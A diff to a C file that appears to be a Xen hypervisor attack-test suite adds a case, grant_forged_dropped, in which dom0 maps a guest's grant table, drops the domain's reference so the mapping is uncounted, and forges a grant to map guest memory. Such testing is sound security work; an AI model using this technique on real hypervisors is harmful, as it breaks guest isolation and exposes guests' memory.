@@ -4,8 +4,10 @@
  *
  * Claim:  dom0 grants itself any page of a guest, in the guest's name.
  * Method: the frame of the guest's grant table is mapped: by
- *         XENMEM_acquire_resource, before the guest runs or while it does, or
- *         as the guest frame where the guest has it; an entry for a page of
+ *         XENMEM_acquire_resource, before the guest runs or while it does
+ *         (with the domain's own reference dropped meanwhile, so that nobody
+ *         counts the mapping), or as the guest frame where the guest has it;
+ *         an entry for a page of
  *         lines is written, and the grant mapped.
  * Stock:  the frame is mapped, writable; the grant is as good as any.
  */
@@ -82,6 +84,41 @@ static enum verdict grant_forged_kept(struct victim *v)
     return map_forged(v);
 }
 ATTACK(grant_forged_kept, .needs = BUILT);
+
+/*
+ * Put into the guest's map and taken out again: the domain's own reference to
+ * the table is dropped, and dom0's mapping is the only one.
+ */
+static int drop_reference(struct victim *v)
+{
+    xen_pfn_t gfn = VICTIM_GRANTS / PAGE;
+    struct xen_add_to_physmap op = {
+        .domid = v->id,
+        .space = XENMAPSPACE_grant_table,
+        .gpfn = gfn,
+    };
+
+    if ( memory_op(XENMEM_add_to_physmap, &op, sizeof(op)) )
+        return -1;
+    return xc_domain_decrease_reservation(xch, v->id, 1, 0, &gfn) == 1 ? 0
+                                                                       : -1;
+}
+
+static enum verdict grant_forged_dropped(struct victim *v)
+{
+    void *table;
+
+    if ( !map_table(v, &table) || !table )
+        return verdict(ERROR, "no mapping of the grant table in the building");
+    if ( drop_reference(v) )
+        return verdict(FAILURE, "the table's reference cannot be dropped");
+    if ( !victim_runs(v) )
+        return verdict(FAILURE, "the guest does not run");
+    if ( attempt(write_entry, table) )
+        return verdict(FAILURE, "the mapping is not writable");
+    return map_forged(v);
+}
+ATTACK(grant_forged_dropped, .needs = BUILT);
 
 static enum verdict grant_forged_early(struct victim *v)
 {
